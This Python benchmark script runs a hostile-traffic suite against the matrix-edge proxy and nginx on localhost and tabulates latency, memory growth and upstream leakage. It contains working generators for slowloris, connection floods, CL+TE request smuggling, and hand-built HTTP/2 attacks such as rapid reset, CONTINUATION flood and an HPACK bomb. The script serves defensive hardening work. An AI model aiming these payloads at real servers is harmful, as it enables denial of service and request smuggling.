#!/usr/bin/env python3
"""Each attack of the hostile-traffic suite against matrix-edge and nginx in
one run, both hardened alike, both in front of their own counting upstream.

Run through bench/attacks (it installs nginx and h2load and builds
matrix-edge in release mode). For every case and proxy it reports:
- the honest client's p99: h2load at a fixed rate over TLS HTTP/2 from
  127.0.0.1 during the attack (the attackers come from 127.0.0.3), and how
  many of its requests failed;
- the proxy's RSS growth: the peak during the case minus the RSS before;
- the attack requests that reached the upstream;
- how the attack ended (closed by the proxy, or still held open).
Prints a Markdown table; nothing is asserted here (tests/it/hostile.rs and
tests/it/h2_abuse.rs do that).
"""
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import bench  # noqa: E402  (shares the process and port helpers)

ROOT = bench.ROOT
ATTACKER = "127.0.0.3"
SECONDS = 6
HONEST_RPS = 50  # per h2load client, 2 clients
HOST = "matrix.example.com"
ATTACK_PATH = "/_matrix/client/v3/attack"
MAX_UPLOAD = 1 << 20
# For one experiment at a time: ATTACKS_ONLY=zero-window runs the cases whose
# name contains it; ATTACKS_EDGE=path measures another matrix-edge binary
# (a patched build) in place of this checkout's release build.
ONLY = os.environ.get("ATTACKS_ONLY", "")
EDGE_BINARY = os.environ.get("ATTACKS_EDGE", os.path.join(ROOT, "target/release/matrix-edge"))


class CountingUpstream:
    """Counts the attack's requests (paths containing /attack) and the body
    bytes they carried; everything else is answered and not counted."""

    def __init__(self, work, name):
        self.port = bench.free_port()
        self.file = os.path.join(work, f"{name}.count")
        code = f"""
import http.server, threading
lock = threading.Lock(); state = {{"requests": 0, "bytes": 0}}
def save():
    with open({self.file!r}, "w") as f: f.write(f"{{state['requests']}} {{state['bytes']}}")
save()
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def any(self):
        length = int(self.headers.get("Content-Length") or 0)
        got = 0
        while got < length:
            chunk = self.rfile.read(min(length - got, 1 << 16))
            if not chunk: break
            got += len(chunk)
        if "/attack" in self.path:
            with lock:
                state["requests"] += 1; state["bytes"] += got; save()
        body = b"x" * (1 << 20) if self.path.endswith("/big") else b'{{"versions":["v1.11"]}}'
        # One write: separate header and body writes meet Nagle and the
        # proxy's delayed ACK, and every request would wait 40 ms for it.
        self.wfile.write(b"HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: "
                         + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
    do_GET = do_POST = do_PUT = any
class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    def handle_error(self, *a): pass
Server(("127.0.0.1", {self.port}), Handler).serve_forever()
"""
        self.process = subprocess.Popen([sys.executable, "-c", code])
        bench.wait_port(self.port)

    def count(self):
        with open(self.file) as f:
            requests, body = f.read().split()
        return int(requests), int(body)


def edge_config(plain, tls, upstream, cert, key):
    return f"""server_name: example.com
listeners:
  - {{ address: "127.0.0.1:{plain}", serves: [client, federation] }}
  - {{ address: "127.0.0.1:{tls}", tls: true, serves: [client, federation] }}
tls:
  certificates: [{{ cert: "{cert}", key: "{key}" }}]
synapse:
  main: 127.0.0.1:{upstream}
limits: {{ max_upload_size: 1M, header_timeout: 15s, connections_per_ip: 256 }}
process: {{ threads: 1, access_log: off, log_level: error }}
"""


def nginx_config(work, plain, tls, upstream, cert, key):
    # nginx hardened as far as it goes for the same promises: the same body
    # cap, header deadline, streams per connection and connections per address.
    common = f"""client_max_body_size 1m; client_header_timeout 15s; client_body_timeout 60s;
    large_client_header_buffers 4 32k; keepalive_requests 1000; limit_conn perip 256;
    location / {{ proxy_pass http://synapse; proxy_http_version 1.1; proxy_set_header Connection "";
      proxy_set_header Host $host; proxy_set_header X-Forwarded-For $remote_addr; proxy_buffering off;
      proxy_request_buffering off; }}"""
    return f"""worker_processes 1; daemon off; pid {work}/nginx.pid; worker_rlimit_nofile {bench.FD_HARD_LIMIT};
events {{ worker_connections 20000; }}
http {{
  access_log off; limit_conn_zone $binary_remote_addr zone=perip:10m; http2_max_concurrent_streams 100;
  upstream synapse {{ server 127.0.0.1:{upstream}; keepalive 64; }}
  server {{ listen 127.0.0.1:{plain}; {common} }}
  server {{ listen 127.0.0.1:{tls} ssl http2; ssl_certificate {cert}; ssl_certificate_key {key};
    {common} }}
}}
"""


# --- HTTP/2 frames written by hand (what a library would refuse to send) ---

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value, name=b""):
    out = bytes([index])
    if index == 0:
        out += bytes([len(name)]) + name
    return out + bytes([len(value)]) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def get_head(path=ATTACK_PATH):
    return b"\x82\x87" + literal(1, HOST.encode()) + literal(4, path.encode())


def rapid_reset():
    out = PREFACE
    for n in range(5000):
        out += frame(1, 0x5, 2 * n + 1, get_head()) + frame(3, 0, 2 * n + 1, struct.pack(">I", 8))
    return out


def continuation_flood():
    piece = literal(0, b"a" * 16, b"x-flood")
    return PREFACE + frame(1, 0x1, 1, get_head()) + b"".join(frame(9, 0, 1, piece) for _ in range(100_000))


def hpack_bomb():
    block = get_head() + b"\x40\x06x-bomb\x7f\x81\x1e" + b"b" * 4000 + b"\xbe" * 20_000
    out, pieces = PREFACE, [block[i:i + 16384] for i in range(0, len(block), 16384)]
    for at, piece in enumerate(pieces):
        last = at == len(pieces) - 1
        out += frame(1 if at == 0 else 9, (0x1 if at == 0 else 0) | (0x4 if last else 0), 1, piece)
    return out


def settings_flood():
    return PREFACE + frame(4, 0, 0) * 100_000


def ping_flood():
    return PREFACE + b"".join(frame(6, 0, 0, struct.pack(">Q", n)) for n in range(100_000))


def zero_window():
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00")
    return out + b"".join(frame(1, 0x5, 2 * n + 1, get_head(ATTACK_PATH + "/big")) for n in range(100))


def open_streams():
    return PREFACE + b"".join(frame(1, 0x4, 2 * n + 1, get_head()) for n in range(2000))


# --- attackers ---

def connect(port, tls=False):
    s = socket.socket()
    s.bind((ATTACKER, 0))
    s.settimeout(5)
    s.connect(("127.0.0.1", port))
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        s = context.wrap_socket(s, server_hostname=HOST)
    return s


def h2_attack(payload, connections, read_back=True):
    def one(_index):
        try:
            s = connect(ports["tls"], tls=True)
        except OSError:
            return "refused"
        s.settimeout(0.2)
        writer = threading.Thread(target=lambda: _send_all(s, payload), daemon=True)
        writer.start()
        deadline = time.time() + SECONDS
        while time.time() < deadline:
            if not read_back:
                time.sleep(0.1)
                continue
            try:
                if not s.recv(65536):
                    return "closed"
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except OSError:
                return "closed"
        s.close()
        return "held open"
    return lambda: tally(run_parallel(one, connections))


def _send_all(s, payload):
    try:
        for at in range(0, len(payload), 16384):
            s.sendall(payload[at:at + 16384])
    except OSError:
        pass


def run_parallel(one, count):
    results = [None] * count
    def worker(i):
        results[i] = one(i)
    threads = [threading.Thread(target=worker, args=(i,)) for i in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return results


def tally(results):
    counts = {}
    for r in results:
        counts[r] = counts.get(r, 0) + 1
    return ", ".join(f"{n} {what}" for what, n in sorted(counts.items()))


def slowloris(count=500):
    def attack():
        sockets = []
        for _ in range(count):
            try:
                s = connect(ports["plain"])
                s.sendall(f"GET {ATTACK_PATH} HTTP/1.1\r\nHost: {HOST}\r\n".encode())
                sockets.append(s)
            except OSError:
                pass
        opened = len(sockets)
        deadline = time.time() + SECONDS
        while time.time() < deadline:
            alive = []
            for s in sockets:
                try:
                    s.sendall(b"X")
                    alive.append(s)
                except OSError:
                    s.close()
            sockets = alive
            time.sleep(1)
        held = len(sockets)
        for s in sockets:
            s.close()
        return f"{opened} opened, {held} still open after {SECONDS} s"
    return attack


def idle_flood(count=2000):
    def attack():
        sockets = []
        for _ in range(count):
            try:
                sockets.append(connect(ports["plain"]))
            except OSError:
                pass
        time.sleep(SECONDS)
        held = 0
        for s in sockets:
            s.settimeout(0)
            try:
                s.recv(1)  # b"": closed by the proxy
            except BlockingIOError:
                held += 1  # nothing to read: still open
            except OSError:
                pass
            s.close()
        return f"{len(sockets)} opened, {held} still open after {SECONDS} s"
    return attack


def oversized_upload(clients=16, size=8 << 20):
    def one(_index):
        try:
            s = connect(ports["plain"])
            s.settimeout(10)
            s.sendall(f"POST /_matrix/media/v3/upload/attack HTTP/1.1\r\nHost: {HOST}\r\n"
                      f"Content-Type: application/octet-stream\r\nContent-Length: {size}\r\n\r\n".encode())
            chunk = b"u" * 65536
            for _ in range(size // len(chunk)):
                s.sendall(chunk)
            answer = s.recv(4096)
            return "413 received" if answer.startswith(b"HTTP/1.1 413") else f"answer {answer[:12]!r}"
        except OSError as e:
            return f"error {e.__class__.__name__}"
    return lambda: tally(run_parallel(one, clients))


def raw_requests(build, count):
    def one_batch(offset):
        statuses = {}
        for n in range(offset, count, 8):
            try:
                with connect(ports["plain"]) as s:
                    s.sendall(build(n))
                    answer = s.recv(4096).split(b" ", 2)
                    key = answer[1].decode() if len(answer) > 1 else "closed"
            except OSError:
                key = "reset"
            statuses[key] = statuses.get(key, 0) + 1
        return statuses
    def attack():
        merged = {}
        for part in run_parallel(one_batch, 8):
            for k, v in part.items():
                merged[k] = merged.get(k, 0) + v
        return ", ".join(f"{v}x {k}" for k, v in sorted(merged.items()))
    return attack


def bad_request_line(n):
    forms = [f"GET {ATTACK_PATH}/a b HTTP/1.1", f"GET\t{ATTACK_PATH} HTTP/1.1", f"GET {ATTACK_PATH}/\x01 HTTP/1.1",
             f"GET {ATTACK_PATH} HTTP/1.1 extra"]
    return f"{forms[n % len(forms)]}\r\nHost: {HOST}\r\n\r\n".encode()


def smuggle(n):
    smuggled = f"GET {ATTACK_PATH}/smuggled HTTP/1.1\r\nHost: {HOST}\r\n\r\n"
    return (f"POST {ATTACK_PATH}/front HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(smuggled) + 5}\r\n"
            f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}").encode()


CASES = [
    ("none (baseline)", lambda: (lambda: "-")),
    ("slowloris, 500 connections", lambda: slowloris()),
    ("2,000 idle connections", lambda: idle_flood()),
    ("16 x 8 MiB uploads over a 1 MiB cap", lambda: oversized_upload()),
    ("1,000 bad request lines", lambda: raw_requests(bad_request_line, 1000)),
    ("500 CL+TE smuggling attempts", lambda: raw_requests(smuggle, 500)),
    ("h2 rapid reset, 5 x 5,000 streams", lambda: h2_attack(rapid_reset(), 5)),
    ("h2 CONTINUATION flood, 3 x 100,000", lambda: h2_attack(continuation_flood(), 3)),
    ("h2 HPACK bomb, 3 x 80 MB decoded", lambda: h2_attack(hpack_bomb(), 3)),
    ("h2 SETTINGS flood, 3 x 100,000", lambda: h2_attack(settings_flood(), 3)),
    ("h2 PING flood, 3 x 100,000", lambda: h2_attack(ping_flood(), 3)),
    ("h2 zero-window readers, 10 x 100 x 1 MiB", lambda: h2_attack(zero_window(), 10, read_back=False)),
    ("h2 2,000 open streams, 5 connections", lambda: h2_attack(open_streams(), 5)),
]

ports = {}


def selected_cases():
    return [(name, make) for name, make in CASES if ONLY in name]


def honest_load(log):
    return subprocess.Popen(["h2load", "-c", "2", "--rps", str(HONEST_RPS), "-D", str(SECONDS), "--log-file", log,
                             f"https://127.0.0.1:{ports['tls']}/_matrix/client/versions"],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)


def honest_outcome(process, log):
    out, _ = process.communicate(timeout=SECONDS + 60)
    failed = 0
    with open(log) as f:
        for line in f:
            parts = line.split()
            if len(parts) >= 3 and parts[1] != "200":
                failed += 1
    total = re.search(r"requests: (\d+) total, (\d+) started, (\d+) done, (\d+) succeeded", out)
    if total:
        failed = max(failed, int(total.group(1)) - int(total.group(4)))
    _, p99 = bench.percentiles(log)
    return p99, failed


def run_case(work, proxy, pid, upstream, name, make_attack):
    attack = make_attack()
    pids = bench.children(pid)
    before = bench.rss_kib(pids)
    reached_before = upstream.count()
    log = os.path.join(work, f"honest-{proxy}.log")
    honest = honest_load(log)
    peak = [before]
    stop = threading.Event()
    def sample():
        while not stop.is_set():
            peak[0] = max(peak[0], bench.rss_kib(bench.children(pid)))
            time.sleep(0.1)
    sampler = threading.Thread(target=sample)
    sampler.start()
    time.sleep(0.3)
    outcome = attack()
    p99, failed = honest_outcome(honest, log)
    stop.set()
    sampler.join()
    reached = upstream.count()
    return {
        "p99": p99, "failed": failed, "rss_growth_mib": (peak[0] - before) / 1024,
        "reached": reached[0] - reached_before[0], "bytes": reached[1] - reached_before[1], "outcome": outcome,
    }


def main():
    work = tempfile.mkdtemp(prefix="matrix-edge-attacks-")
    certs = os.path.join(work, "certs")
    bench.run([os.path.join(ROOT, "scripts/dev-certs"), certs, HOST])
    cert, key = os.path.join(certs, HOST, "fullchain.pem"), os.path.join(certs, HOST, "privkey.pem")
    results = {}
    for proxy in ["matrix-edge", "nginx"]:
        upstream = CountingUpstream(work, proxy)
        ports["plain"], ports["tls"] = bench.free_port(), bench.free_port()
        if proxy == "nginx":
            path = os.path.join(work, "nginx.conf")
            with open(path, "w") as f:
                f.write(nginx_config(work, ports["plain"], ports["tls"], upstream.port, cert, key))
            process = subprocess.Popen(["nginx", "-c", path, "-p", work, "-e", f"{work}/nginx.err"],
                                       preexec_fn=bench.raise_fd_limit, stderr=subprocess.DEVNULL)
        else:
            path = os.path.join(work, "edge.yaml")
            with open(path, "w") as f:
                f.write(edge_config(ports["plain"], ports["tls"], upstream.port, cert, key))
            process = subprocess.Popen([EDGE_BINARY, "-c", path],
                                       preexec_fn=bench.raise_fd_limit, stderr=open(f"{work}/edge.err", "w"))
        bench.wait_port(ports["plain"])
        bench.wait_port(ports["tls"])
        time.sleep(0.5)
        for name, make_attack in selected_cases():
            print(f"{proxy}: {name}", file=sys.stderr, flush=True)
            results[(proxy, name)] = run_case(work, proxy, process.pid, upstream, name, make_attack)
            time.sleep(1)
        process.terminate()
        process.wait(timeout=20)
        upstream.process.terminate()
    print(report(results))


def report(results):
    lines = [
        f"Honest client: h2load, 2 connections x {HONEST_RPS} req/s over TLS HTTP/2 for {SECONDS} s during each "
        "attack; RSS growth is the peak during the case over the RSS before it; "
        "\"reached\" counts the attack's requests (and body bytes) the upstream received.",
        "",
        "| attack | honest p99 ms (edge / nginx) | honest failures | RSS growth MiB | reached upstream | "
        "how the attack ended (edge) | (nginx) |",
        "|---|---|---|---|---|---|---|",
    ]
    for name, _ in selected_cases():
        e, n = results[("matrix-edge", name)], results[("nginx", name)]
        reached = lambda r: f"{r['reached']}" + (f" ({r['bytes'] / 1048576:.1f} MiB)" if r["bytes"] else "")
        lines.append(
            f"| {name} | {e['p99']:.2f} / {n['p99']:.2f} | {e['failed']} / {n['failed']} | "
            f"{e['rss_growth_mib']:.1f} / {n['rss_growth_mib']:.1f} | {reached(e)} / {reached(n)} | "
            f"{e['outcome']} | {n['outcome']} |")
    return "\n".join(lines)


if __name__ == "__main__":
    main()
